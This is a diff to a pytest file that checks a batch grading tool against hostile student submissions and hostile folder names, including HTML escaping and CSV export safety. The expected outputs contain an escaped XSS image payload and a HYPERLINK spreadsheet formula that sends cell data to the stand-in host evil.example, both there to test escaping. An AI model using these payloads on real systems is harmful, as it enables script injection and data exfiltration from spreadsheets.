@@ -36,14 +36,14 @@ from pathlib import Path
 import pytest
 
 from conftest import ROOT
-from grader.batch import gradebook
+from grader.batch import exports, gradebook
 from grader.batch.meter import Meter
 from grader.grading import untrusted
 
 GRADE = str(Path(sys.executable).with_name("grade"))
 TRUSTED = ROOT / "tests" / "attacks" / "trusted"
 SOLUTION = (ROOT / "solutions" / "exercise_3.py").read_text()
-LIMITS = ["--timeout", "3", "--memory", "600"]
+LIMITS = ["--timeout", "10", "--memory", "600"]  # no attacker here hangs: a busy machine must not time one out
 ATTACKERS = ("output_escapes", "output_forged_huge_message", "output_huge_type_name")
 # Folder names that hand in the honest solution: each must be graded as any other student.
 NAMED = {
@@ -153,26 +153,26 @@ def test_batch_completes_with_every_student(graded):
 
 def test_a_rerun_completes_and_changes_nothing(graded):
     assert graded.rerun.returncode == 0, graded.rerun.stderr[-3000:]
-    assert "0 graded in this run" in graded.rerun.stdout
+    assert "0 graded in this run" in graded.rerun.stdout, graded.rerun.stdout
 
 
 def test_honest_code_scores_full_marks_whatever_its_folder_is_called(graded):
     stored = students(graded.out)
     for name in HONEST:
-        assert stored[name][:2] == (10.0, "graded"), name
-        data = json.loads((gradebook.student_folder(graded.out, name) / "results.json").read_text())
+        assert stored[name][:2] == (10.0, "graded"), (name, stored[name])
+        data = json.loads((exports.student_folder(graded.out, name) / "results.json").read_text())
         assert data["score"] == 10, name
 
 
 def test_the_batch_keeps_its_own_files_apart_from_students(graded):
     top = {p.name for p in graded.out.iterdir()}
     assert top <= {".lock", gradebook.STORE_NAME, f"{gradebook.STORE_NAME}-wal", f"{gradebook.STORE_NAME}-shm",
-                   gradebook.GRADES_NAME, gradebook.REPORT_NAME, gradebook.STUDENTS_NAME,
+                   gradebook.GRADES_NAME, gradebook.REPORT_NAME, exports.STUDENTS_NAME,
                    "export-canvas.csv", "export-moodle.csv", "export-csv.csv"}, top
     for kind in ("canvas", "moodle", "csv"):
         assert graded.exports[kind].returncode == 0, graded.exports[kind].stderr
         assert (graded.out / f"export-{kind}.csv").is_file()
-    assert (gradebook.student_folder(graded.out, "export-canvas.csv") / "feedback.md").is_file()
+    assert (exports.student_folder(graded.out, "export-canvas.csv") / "feedback.md").is_file()
 
 
 def test_a_name_that_is_not_text_is_refused_by_a_clear_line(graded):
@@ -197,7 +197,7 @@ def test_every_stored_text_is_capped(graded):
     assert (graded.out / gradebook.STORE_NAME).stat().st_size < 4 << 20
     for name in ATTACKERS:
         for file in ("results.json", "feedback.md"):
-            assert (gradebook.student_folder(graded.out, name) / file).stat().st_size < 400_000, (name, file)
+            assert (exports.student_folder(graded.out, name) / file).stat().st_size < 400_000, (name, file)
 
 
 def test_what_was_cut_is_said(graded):
@@ -279,15 +279,16 @@ def test_csv_cells_are_quoted_only_where_they_are_text():
 
 
 def test_feedback_md_holds_no_raw_html_or_escape(graded):
-    folders = [p for p in (graded.out / gradebook.STUDENTS_NAME).iterdir() if p.is_dir()]
+    folders = [p for p in (graded.out / exports.STUDENTS_NAME).iterdir() if p.is_dir()]
     assert len(folders) == len(students(graded.out))
     for folder in folders:
         text = (folder / "feedback.md").read_text()
-        assert not re.search(r"<[A-Za-z!/?]", text), folder.name
         assert not CONTROL.search(text), folder.name
-    html = (gradebook.student_folder(graded.out, NAMED["html"]) / "feedback.md").read_text()
+        prose = re.sub(r"(?ms)^( *)(`{3,})text\n.*?^\1\2$", "", text)  # code blocks show HTML as text
+        assert not re.search(r"<[A-Za-z!/?]", prose), (folder.name, prose)
+    html = (exports.student_folder(graded.out, NAMED["html"]) / "feedback.md").read_text()
     assert html.startswith("# Feedback for &lt;img src=x onerror=alert(1)&gt;\n")
-    formula = (gradebook.student_folder(graded.out, NAMED["formula"]) / "feedback.md").read_text()
+    formula = (exports.student_folder(graded.out, NAMED["formula"]) / "feedback.md").read_text()
     assert formula.startswith('# Feedback for =HYPERLINK(&quot;http:\\\\\\\\evil.example?&quot;&amp;A1,&quot;click&quot;)')
 
 
